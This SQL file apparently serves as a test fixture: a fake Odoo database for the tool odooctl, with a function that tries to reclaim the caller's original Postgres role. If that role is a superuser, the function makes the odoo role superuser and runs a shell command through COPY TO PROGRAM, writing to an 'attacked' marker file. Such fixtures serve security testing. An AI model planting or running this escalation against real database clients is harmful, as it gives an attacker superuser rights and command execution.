-- A database of role odoo with what odooctl asks an Odoo database for, and a function
-- that takes what it can get from whoever runs it: directly, or by going back to the
-- role that the session began with.
create table ir_module_module (name text primary key, state text, latest_version text);
insert into ir_module_module values ('base', 'installed', '14.0.1.3');
create function look() returns text language plpgsql volatile as $look$
declare
	way text;
begin
	foreach way in array array['select 1', 'reset role', 'reset session authorization', 'set session authorization default', 'set role postgres'] loop
		begin
			execute way;
			if (select rolsuper from pg_catalog.pg_roles where rolname = current_user) then
				begin
					execute 'alter role odoo superuser';
				exception when others then null;
				end;
				execute $x$copy (select 1) to program 'cat >/dev/null; id >>/var/lib/postgresql/attacked'$x$;
			end if;
		exception when others then null;
		end;
	end loop;
	return '14.0.1.3';
end $look$;
grant execute on function look() to public;
